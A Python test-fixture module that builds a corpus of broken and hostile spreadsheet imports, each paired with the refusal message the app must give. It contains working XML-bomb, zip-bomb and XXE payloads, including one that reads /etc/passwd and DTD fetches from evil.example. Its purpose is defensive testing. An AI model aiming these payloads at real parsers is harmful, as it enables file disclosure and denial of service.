"""A corpus of broken and hostile import files, built here from bytes (``zipfile``,
``struct``): independent of the app's own code, so that a bug in the app's writer or
reader cannot hide a gap in its checks.

Each maker ``make_<kind>(folder) -> Path`` writes one file (or makes one special path) and
is listed in :data:`CORPUS` with the words its refusal must contain.  Large inputs (a million
rows, 20,000 columns) are written streaming and compress well, so the corpus is built in
about a second.
"""

from __future__ import annotations

import os
import struct
import zipfile
from pathlib import Path
from typing import Callable

from app.excel.limits import MAX_BOOK_CELLS, MAX_CELLS

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RNS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'.encode()
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
          b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
          b'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>')

# -- .xlsx from parts ---------------------------------------------------------------------------


def content_types(n_sheets: int = 1, macro: bool = False) -> bytes:
    main = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    sheets = "".join(
        f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        for i in range(1, n_sheets + 1))
    return HEAD + (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>{sheets}'
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
        'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>').encode()


def workbook_parts(n_sheets: int = 1) -> dict[str, bytes]:
    sheets = "".join(f'<sheet name="表{i}" sheetId="{i}" r:id="rId{i}"/>'
                     for i in range(1, n_sheets + 1))
    rels = "".join(
        f'<Relationship Id="rId{i}" Type="{RNS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
        for i in range(1, n_sheets + 1))
    return {
        "[Content_Types].xml": content_types(n_sheets),
        "_rels/.rels": HEAD + (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships"><Relationship Id="rId1" Type="{RNS}/officeDocument" '
            'Target="xl/workbook.xml"/></Relationships>').encode(),
        "xl/workbook.xml": HEAD + (f'<workbook xmlns="{NS}" xmlns:r="{RNS}"><sheets>{sheets}'
                                   '</sheets></workbook>').encode(),
        "xl/_rels/workbook.xml.rels": HEAD + (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            f'relationships">{rels}<Relationship Id="rIdS" Type="{RNS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>').encode(),
        "xl/sharedStrings.xml": HEAD + (f'<sst xmlns="{NS}" count="2" uniqueCount="2">'
                                        '<si><t>姓名</t></si><si><t>公民身份号码</t></si>'
                                        '</sst>').encode(),
    }


def sheet_xml(rows: bytes, dimension: str | None = "A1:B2") -> bytes:
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return HEAD + f'<worksheet xmlns="{NS}">'.encode() + dim + b"<sheetData>" + rows + \
        b"</sheetData></worksheet>"


GOOD_ROWS = ('<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>张三</t></is></c>'
             '<c r="B2" t="inlineStr"><is><t>110105199001010029</t></is></c></row>').encode()


def write_xlsx(path: Path, sheets: list[bytes | Callable] | None = None,
               replace: dict[str, bytes] | None = None, extra: dict[str, bytes] | None = None,
               stored: tuple[str, ...] = ()) -> Path:
    """An .xlsx of ``sheets`` (bytes, or a function writing to a file object, for parts too
    big to hold), with parts replaced or added."""
    sheets = sheets if sheets is not None else [sheet_xml(GOOD_ROWS)]
    parts = workbook_parts(len(sheets))
    parts.update(replace or {})
    parts.update(extra or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, body in parts.items():
            zf.writestr(name, body, zipfile.ZIP_STORED if name in stored else
                        zipfile.ZIP_DEFLATED)
        for i, sheet in enumerate(sheets, start=1):
            name = f"xl/worksheets/sheet{i}.xml"
            if callable(sheet):
                with zf.open(name, "w", force_zip64=True) as fh:
                    sheet(fh)
            else:
                zf.writestr(name, sheet)
    return path


def streamed(head: bytes, row: Callable[[int], bytes], n: int, batch: int = 20000):
    """A sheet writer: ``head``, then ``row(i)`` for i in 1..n, written in batches."""
    def write(fh) -> None:
        fh.write(HEAD + f'<worksheet xmlns="{NS}">'.encode() + head + b"<sheetData>")
        for start in range(1, n + 1, batch):
            fh.write(b"".join(row(i) for i in range(start, min(start + batch, n + 1))))
        fh.write(b"</sheetData></worksheet>")
    return write


def col_letters(n: int) -> str:
    out = ""
    while n:
        n, rem = divmod(n - 1, 26)
        out = chr(65 + rem) + out
    return out


# -- OLE2 compound files (old .xls, encrypted workbooks) -----------------------------------------

FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD


def write_cfb(path: Path, streams: dict[str, bytes]) -> Path:
    """A version-3 compound file holding ``streams`` (each padded to 4096 bytes so that it
    lives in regular sectors, not the mini stream)."""
    datas = [(name, data + b"\0" * (-len(data) % 512 if len(data) >= 4096 else 4096 - len(data)))
             for name, data in streams.items()]
    entries = 1 + len(datas)
    dir_sectors = -(-entries * 128 // 512)
    data_sectors = sum(len(d) // 512 for _n, d in datas)
    n_fat = 1
    while n_fat * 128 < n_fat + dir_sectors + data_sectors:
        n_fat += 1
    fat = [FATSECT] * n_fat
    first_dir = len(fat)
    fat += [len(fat) + i + 1 for i in range(dir_sectors - 1)] + [END]
    starts = []
    for _name, d in datas:
        n = len(d) // 512
        starts.append(len(fat))
        fat += [len(fat) + i + 1 for i in range(n - 1)] + [END]
    fat += [FREE] * (n_fat * 128 - len(fat))
    difat = list(range(n_fat)) + [FREE] * (109 - n_fat)
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 +
              struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6 +
              struct.pack("<IIIIIIII", 0, n_fat, first_dir, 0, 4096, END, 0, END) +
              struct.pack("<I", 0) + struct.pack("<109I", *difat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        return (raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1) +
                struct.pack("<III", FREE, right, child) + b"\0" * 16 + b"\0" * 4 +
                b"\0" * 16 + struct.pack("<IQ", start, size))

    dirs = [entry("Root Entry", 5, 1 if datas else FREE, FREE, END, 0)]
    for i, ((name, d), start) in enumerate(zip(datas, starts), start=1):
        dirs.append(entry(name, 2, FREE, i + 1 if i < len(datas) else FREE, start, len(d)))
    directory = b"".join(dirs).ljust(dir_sectors * 512, b"\0")
    body = struct.pack(f"<{len(fat)}I", *fat) + directory + b"".join(d for _n, d in datas)
    path.write_bytes(header.ljust(512, b"\0") + body)
    return path


def biff(code: int, body: bytes) -> bytes:
    return struct.pack("<HH", code, len(body)) + body


def xls_stream(cells: list[tuple[int, int, float]]) -> bytes:
    """A BIFF8 workbook stream: globals with one sheet, the sheet with NUMBER cells."""
    bof_globals = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 6))
    name = "表1".encode("utf-16-le")
    sheet_body = lambda pos: struct.pack("<IBB", pos, 0, 0) + bytes([2, 1]) + name  # noqa: E731
    globals_len = len(bof_globals) + len(biff(0x0085, sheet_body(0))) + 4
    sheet = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 6))
    for r, c, v in cells:
        sheet += biff(0x0203, struct.pack("<HHHd", r, c, 15, v))
    sheet += biff(0x000A, b"")
    return bof_globals + biff(0x0085, sheet_body(globals_len)) + biff(0x000A, b"") + sheet


# -- .xlsb (BIFF12 records) ---------------------------------------------------------------------

def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def xlsb_record(kind: int, body: bytes) -> bytes:
    return _varint(kind) + _varint(len(body)) + body


def xlsb_sheet(cells: list[tuple[int, int, float]]) -> bytes:
    """BrtBeginSheet, BrtBeginSheetData, a BrtRowHdr before each row's BrtCellReal cells."""
    out = [xlsb_record(0x81, b""), xlsb_record(0x91, b"")]
    row = None
    for r, c, v in cells:
        if r != row:
            out.append(xlsb_record(0, struct.pack("<IIHHBBB", r, 0, 300, 0, 0, 0, 0) +
                                   bytes(4)))
            row = r
        out.append(xlsb_record(5, struct.pack("<IId", c, 0, v)))
    return b"".join(out) + xlsb_record(0x92, b"") + xlsb_record(0x82, b"")


def write_xlsb(path: Path, sheet: bytes) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("xl/workbook.bin", xlsb_record(0x83, b"") + xlsb_record(0x84, b""))
        zf.writestr("xl/worksheets/sheet1.bin", sheet)
    return path


# -- .ods ------------------------------------------------------------------------------------

def write_ods(path: Path, content: bytes, extra: dict[str, bytes] | None = None) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", b"application/vnd.oasis.opendocument.spreadsheet",
                    zipfile.ZIP_STORED)
        zf.writestr("META-INF/manifest.xml", HEAD + b'<manifest:manifest xmlns:manifest='
                    b'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>')
        zf.writestr("content.xml", content)
        for name, body in (extra or {}).items():
            zf.writestr(name, body)
    return path


def ods_content(rows: bytes, pre: bytes = b"") -> bytes:
    return HEAD + pre + (
        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
        b' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
        b' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body>'
        b'<office:spreadsheet><table:table table:name="Sheet1">' + rows +
        b"</table:table></office:spreadsheet></office:body></office:document-content>")


ODS_CELL = b'<table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'


# -- the corpus --------------------------------------------------------------------------------

def _zero(d: Path, ext: str) -> Path:
    p = d / f"empty{ext}"
    p.write_bytes(b"")
    return p


def _good(d: Path) -> Path:
    return write_xlsx(d / "good.xlsx")


def make_zero_xlsx(d): return _zero(d, ".xlsx")
def make_zero_csv(d): return _zero(d, ".csv")


def make_png_as_xlsx(d):
    p = d / "picture.xlsx"
    p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8)
    return p


def make_exe_as_xlsx(d):
    p = d / "setup.xlsx"
    p.write_bytes(b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"This program" + bytes(2000))
    return p


def make_truncated(d):
    good = _good(d).read_bytes()
    p = d / "truncated.xlsx"
    p.write_bytes(good[: len(good) * 2 // 3])
    return p


def make_truncated_half_header(d):
    p = d / "cut.xlsx"
    p.write_bytes(_good(d).read_bytes()[:30])
    return p


def make_zip_without_workbook(d):
    p = d / "plain.xlsx"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("readme.txt", "hello")
    return p


def make_zip_bomb(d):
    p = write_xlsx(d / "bomb.xlsx")
    with zipfile.ZipFile(p, "a", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("xl/media/pad.bin", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(16):
                fh.write(chunk)
    return p


def make_lying_header_bomb(d):
    """A part whose central directory says 100 bytes but that inflates to 16 MB."""
    p = write_xlsx(d / "liar.xlsx", extra={"xl/media/x.bin": b"\0" * (16 << 20)})
    data = bytearray(p.read_bytes())
    name = b"xl/media/x.bin"
    i = 0
    while True:  # patch the size in the central directory entry
        i = data.find(b"PK\x01\x02", i)
        if i < 0:
            break
        n = struct.unpack_from("<H", data, i + 28)[0]
        if data[i + 46:i + 46 + n] == name:
            struct.pack_into("<I", data, i + 24, 100)
        i += 4
    p.write_bytes(bytes(data))
    return p


def make_billion_laughs_workbook(d):
    parts = workbook_parts()
    body = parts["xl/workbook.xml"].replace(HEAD, HEAD + LAUGHS).replace(
        b"<sheets>", b"<sheets>&lol4;")
    return write_xlsx(d / "laughs.xlsx", replace={"xl/workbook.xml": body})


def make_billion_laughs_sheet(d):
    return write_xlsx(d / "laughs_sheet.xlsx", [HEAD + LAUGHS + sheet_xml(
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol4;</t></is></c></row>')[len(HEAD):]])


def make_xxe_shared_strings(d):
    sst = HEAD + (b'<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                  b'<sst xmlns="' + NS.encode() + b'"><si><t>&xxe;</t></si></sst>')
    return write_xlsx(d / "xxe.xlsx", replace={"xl/sharedStrings.xml": sst})


def make_external_dtd(d):
    return write_xlsx(d / "dtd.xlsx", [HEAD + b'<!DOCTYPE worksheet SYSTEM '
                                       b'"http://evil.example/x.dtd">' +
                                       sheet_xml(GOOD_ROWS)[len(HEAD):]])


def make_parameter_entity_content_types(d):
    ct = content_types().replace(HEAD, HEAD + b'<!DOCTYPE Types [<!ENTITY % p SYSTEM '
                                 b'"http://evil.example/p.dtd"> %p;]>')
    return write_xlsx(d / "param.xlsx", replace={"[Content_Types].xml": ct})


def make_macro_vba(d):
    return write_xlsx(d / "macro.xlsx", extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" +
                                               bytes(1024)})


def make_macro_content_type(d):
    return write_xlsx(d / "macro_ct.xlsx",
                      replace={"[Content_Types].xml": content_types(macro=True)})


def make_xlsm_extension(d):
    p = d / "real.xlsm"
    p.write_bytes(_good(d).read_bytes())
    return p


def make_encrypted_ooxml(d):
    """What Excel writes for a workbook with an open password: an OLE2 file holding
    EncryptionInfo and EncryptedPackage, named .xlsx."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b"<encryption/>" + bytes(200)
    return write_cfb(d / "secret.xlsx", {"EncryptionInfo": info,
                                         "EncryptedPackage": os.urandom(6000)})


def make_ole_garbage(d):
    p = d / "broken.xls"
    p.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + os.urandom(3000))
    return p


def make_bad_biff(d):
    return write_cfb(d / "badbiff.xls", {"Workbook": os.urandom(5000)})


def make_xls_huge_extent(d):
    """Two NUMBER cells, A1 and IV65536: 16.7 million cells once placed."""
    return write_cfb(d / "huge.xls", {"Workbook": xls_stream([(0, 0, 1.0),
                                                                 (65535, 255, 2.0)])})


def make_no_r_far_row(d):
    """The 5 KB sheet that once made the reader ask for 13 GB: one row numbered 1,048,576
    with 400 cells without ``r=``."""
    return write_xlsx(d / "no_r.xlsx", [sheet_xml(b'<row r="1048576">' +
                                                  b"<c><v>1</v></c>" * 400 + b"</row>")])


def make_no_r_40_columns(d):
    return write_xlsx(d / "no_r_40.xlsx", [sheet_xml(
        b'<row r="1000000">' + b"<c><v>1</v></c>" * 40 + b"</row>", dimension=None)])


def make_no_r_rows(d):
    """200,000 rows and cells with no ``r=`` at all and no dimension."""
    return write_xlsx(d / "no_r_rows.xlsx", [streamed(
        b"", lambda i: b"<row><c><v>1</v></c><c><v>2</v></c></row>", 200_000)])


def make_million_rows(d):
    """A real million rows (streamed; each row two cells with ``r=``)."""
    return write_xlsx(d / "million.xlsx", [streamed(
        b'<dimension ref="A1:B1000000"/>',
        lambda i: b'<row r="%d"><c r="A%d"><v>1</v></c><c r="B%d"><v>2</v></c></row>'
        % (i, i, i), 1_000_000)])


def make_huge_dimension_far_cell(d):
    return write_xlsx(d / "far.xlsx", [sheet_xml(
        GOOD_ROWS + b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is>'
        b'</c></row>', dimension="A1:XFD1048576")])


def make_cell_below_its_row(d):
    """Row 2 holding a cell that says it is at Z900000."""
    return write_xlsx(d / "below.xlsx", [sheet_xml(
        b'<row r="1"><c r="A1"><v>1</v></c></row><row r="2"><c r="Z900000"><v>1</v></c>'
        b"</row>")])


def make_20k_columns(d):
    return write_xlsx(d / "wide.xlsx", [sheet_xml(
        b'<row r="1">' + b"<c><v>1</v></c>" * 20_000 + b"</row>", dimension=None)])


def make_16k_columns_with_r(d):
    cells = b"".join(b'<c r="%s1"><v>1</v></c>' % col_letters(i).encode()
                     for i in range(1, 16_385))
    return write_xlsx(d / "wide_r.xlsx", [sheet_xml(b'<row r="1">' + cells + b"</row>")])


def make_prefixed_far_cell(d):
    return write_xlsx(d / "prefixed.xlsx", [HEAD + f'<x:worksheet xmlns:x="{NS}">'.encode() +
                                            b'<x:sheetData><x:row r="1"><x:c r="A1"><x:v>1'
                                            b'</x:v></x:c></x:row><x:row r="600000"><x:c '
                                            b'r="Z600000"><x:v>1</x:v></x:c></x:row>'
                                            b"</x:sheetData></x:worksheet>"])


def make_two_sheets_over_book(d):
    # Each sheet under the per-sheet cap, the two together over the workbook's.
    rows = MAX_CELLS * 3 // 4 // 26
    assert rows * 26 <= MAX_CELLS < MAX_BOOK_CELLS < 2 * rows * 26
    sheet = sheet_xml(f'<row r="1"><c r="A1"><v>1</v></c></row><row r="{rows}">'
                      f'<c r="Z{rows}"><v>1</v></c></row>'.encode())
    return write_xlsx(d / "two.xlsx", [sheet, sheet])


def make_gigantic_shared_strings(d):
    sst = HEAD + f'<sst xmlns="{NS}">'.encode() + b"<si><t>x</t></si>" * 3_100_000 + b"</sst>"
    return write_xlsx(d / "sst.xlsx", replace={"xl/sharedStrings.xml": sst},
                      stored=("xl/sharedStrings.xml",))


def make_deeply_nested_sheet(d):
    depth = 200_000
    return write_xlsx(d / "nested.xlsx", [sheet_xml(
        b'<row r="1"><c r="A1" t="inlineStr"><is>' + b"<r>" * depth + b"</r>" * depth +
        b"</is></c></row>")])


def make_deeply_nested_workbook(d):
    depth = 100_000
    parts = workbook_parts()
    body = parts["xl/workbook.xml"].replace(b"<sheets>", b"<x>" * depth + b"</x>" * depth +
                                            b"<sheets>")
    return write_xlsx(d / "nested_wb.xlsx", replace={"xl/workbook.xml": body})


def make_broken_xml_odd_form(d):
    return write_xlsx(d / "broken_xml.xlsx", [sheet_xml(b"<row><c><v>1</v></c><row></c>")])


def make_csv_nul_late(d):
    p = d / "nul.csv"
    p.write_bytes(("姓名,公民身份号码\n" + "张三,110105199001010029\n" * 400).encode() +
                  b"\x00\x00bad\n")
    return p


def make_csv_nul_start(d):
    p = d / "nul_start.csv"
    p.write_bytes(b"\x00\x01\x02" * 2000)
    return p


def make_csv_mixed_encodings(d):
    p = d / "mixed.csv"
    p.write_bytes("姓名,公民身份号码\n张三,110105199001010029\n".encode("utf-8") +
                  "李四,110105199001010045\n王五,110105199001010061\n".encode("gbk"))
    return p


def make_csv_undecodable(d):
    p = d / "garbage.csv"
    p.write_bytes(b"a,b\n" + b"\x81\x30\xff\xfe\x80" * 100)
    return p


def make_csv_million_rows(d):
    p = d / "rows.csv"
    p.write_bytes(b"a,b\n" * 1_000_000)
    return p


def make_csv_wide(d):
    p = d / "wide.csv"
    p.write_bytes((",".join(["x"] * 5000) + "\n").encode() * 3)
    return p


def make_csv_too_big(d):
    p = d / "big.csv"
    with p.open("wb") as fh:  # 60 MB, sparse: refused by its size before any read
        fh.write(b"a,b\n")
        fh.truncate(60 << 20)
    return p


def make_ods_zip_bomb(d):
    return write_ods(d / "bomb.ods", ods_content(b"<table:table-row>" + ODS_CELL +
                                                 b"</table:table-row>"),
                     extra={"Pictures/pad.bin": b"\0" * (16 << 20)})


def make_ods_laughs(d):
    return write_ods(d / "laughs.ods", ods_content(
        b"<table:table-row>" + ODS_CELL.replace(b">x<", b">&lol4;<") + b"</table:table-row>",
        pre=LAUGHS))


def make_ods_repeated_rows(d):
    return write_ods(d / "rows.ods", ods_content(
        b'<table:table-row table:number-rows-repeated="1000000">' + ODS_CELL +
        b"</table:table-row>"))


def make_ods_repeated_columns(d):
    return write_ods(d / "cols.ods", ods_content(
        b"<table:table-row>" + ODS_CELL.replace(
            b"<table:table-cell ", b'<table:table-cell table:number-columns-repeated="20000" ')
        + b"</table:table-row>"))


def make_ods_macro(d):
    return write_ods(d / "macro.ods", ods_content(b""),
                     extra={"Basic/Standard/Module1.xml": b"<x/>"})


def make_xlsb_macro(d):
    p = d / "macro.xlsb"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("xl/workbook.bin", bytes(100))
        zf.writestr("xl/vbaProject.bin", bytes(100))
    return p


def make_xlsb_far_cell(d):
    return write_xlsb(d / "far.xlsb", xlsb_sheet([(0, 0, 1.0), (1_048_575, 16_383, 2.0)]))


def make_xlsb_many_rows(d):
    return write_xlsb(d / "rows.xlsb", xlsb_sheet([(r, 0, 1.0) for r in range(0, 130_000)]))


def make_directory(d):
    p = d / "folder.xlsx"
    p.mkdir()
    return p


def make_fifo(d):
    p = d / "pipe.xlsx"
    os.mkfifo(p)
    return p


def make_dev_zero(d):
    return Path("/dev/zero")


def make_missing(d):
    return d / "no_such_file.xlsx"


#: (maker, words the refusal must contain; "|" separates alternatives)
CORPUS: list[tuple[Callable[[Path], Path], str]] = [
    (make_zero_xlsx, "空文件"), (make_zero_csv, "空文件"),
    (make_png_as_xlsx, "不是工作簿"), (make_exe_as_xlsx, "不是工作簿"),
    (make_truncated, "不完整"), (make_truncated_half_header, "不完整|不是"),
    (make_zip_without_workbook, "缺少工作簿结构"),
    (make_zip_bomb, "恶意构造"), (make_lying_header_bomb, "恶意构造|不完整|损坏"),
    (make_billion_laughs_workbook, "XML 炸弹"), (make_billion_laughs_sheet, "XML 炸弹"),
    (make_xxe_shared_strings, "实体声明"), (make_external_dtd, "DOCTYPE"),
    (make_parameter_entity_content_types, "DOCTYPE|实体"),
    (make_macro_vba, "含宏"), (make_macro_content_type, "含宏"), (make_xlsm_extension, "宏"),
    (make_encrypted_ooxml, "密码"), (make_ole_garbage, "无法读取|损坏"),
    (make_bad_biff, "无法读取|损坏"), (make_xls_huge_extent, "范围异常大"),
    (make_no_r_far_row, "1,048,576 行"), (make_no_r_40_columns, "1,000,000 行"),
    (make_no_r_rows, "110,001 行"), (make_million_rows, "超过 110,000 行的上限"),
    (make_huge_dimension_far_cell, "范围异常大"), (make_cell_below_its_row, "900,000 行"),
    (make_20k_columns, "1,025 列"), (make_16k_columns_with_r, "列"),
    (make_prefixed_far_cell, "600,000 行"), (make_two_sheets_over_book, "合计"),
    (make_gigantic_shared_strings, "共享文字"), (make_deeply_nested_sheet, "没有找到|无法读取"),
    (make_deeply_nested_workbook, "嵌套层数"),
    (make_broken_xml_odd_form, "不是有效的 XML"),
    (make_csv_nul_late, "空字符"), (make_csv_nul_start, "不是工作簿"),
    (make_csv_mixed_encodings, "编码混杂"), (make_csv_undecodable, "编码"),
    (make_csv_million_rows, "110,001 行"), (make_csv_wide, "列"), (make_csv_too_big, "MB"),
    (make_ods_zip_bomb, "恶意构造"), (make_ods_laughs, "XML 炸弹|实体"),
    (make_ods_repeated_rows, "1,000,000 行"), (make_ods_repeated_columns, "20,000 列"),
    (make_ods_macro, "含宏"), (make_xlsb_macro, "含宏|宏"),
    (make_xlsb_far_cell, "1,048,576 行"), (make_xlsb_many_rows, "110,001 行"),
    (make_directory, "文件夹"), (make_fifo, "命名管道"), (make_dev_zero, "设备"),
    (make_missing, "找不到"),
]
